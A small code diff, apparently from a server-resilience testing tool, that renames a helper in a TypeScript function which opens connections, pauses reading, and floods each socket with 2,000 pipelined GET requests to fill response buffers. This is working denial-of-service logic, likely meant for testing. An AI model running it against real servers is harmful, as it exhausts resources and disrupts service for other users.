@@ -1,4 +1,4 @@
-import { head, openConnections, type Attack, type Target } from './attack.ts'
+import { requestHead, openConnections, type Attack, type Target } from './attack.ts'
 
 /** Enough requests to fill the buffers of a connection with responses. */
 const requestCount = 2_000
@@ -7,6 +7,6 @@ const requestCount = 2_000
 export function takeNoAnswers(target: Target, { connections = 2, path = '/api/schools/' } = {}): Attack {
   return openConnections(target, connections, (socket) => {
     socket.pause()
-    socket.write(head(target, `GET ${path}`).repeat(requestCount))
+    socket.write(requestHead(target, `GET ${path}`).repeat(requestCount))
   })
 }
